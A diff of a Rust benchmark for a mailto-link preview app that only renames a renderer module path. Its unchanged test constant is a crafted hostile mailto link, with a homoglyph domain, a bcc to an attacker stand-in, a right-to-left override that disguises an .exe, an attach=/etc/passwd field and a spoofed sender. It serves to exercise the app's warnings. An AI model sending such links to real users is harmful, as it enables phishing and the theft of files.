@@ -1,7 +1,7 @@
 //! Frame time of the CPU renderer: the hostile-link window (the one with the most warnings)
 //! in a scripted session of typing and scrolling, at scale 1 and 2 and full screen at
 //! 2560x1440, without a display. Each frame runs the window's real egui code, tessellates it and
-//! draws it with `ui::raster` exactly as the window does; what is timed is the drawing (the
+//! draws it with `ui::render::raster` exactly as the window does; what is timed is the drawing (the
 //! renderer) and, beside it, the whole frame (egui + tessellation + drawing).
 //!
 //! Run: `cargo bench --bench frame` (`-- N` sets the frames per session, default 300). Prints
@@ -10,7 +10,7 @@
 use std::time::{Duration, Instant};
 
 use egui::{Event, Key, Modifiers, MouseWheelUnit, RawInput, Rect, pos2, vec2};
-use mailto_preview::ui::raster::Raster;
+use mailto_preview::ui::render::raster::Raster;
 use mailto_preview::ui::{AppOptions, PreviewApp};
 
 const HOSTILE: &str = "mailto:%22support@bank.example%22%20%3Csupport@%D0%B0pple.com%3E?bcc=spy@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&body=Please%20pay.&attach=/etc/passwd&from=ceo@bank.example&X-Mozilla-Draft-Info=1";
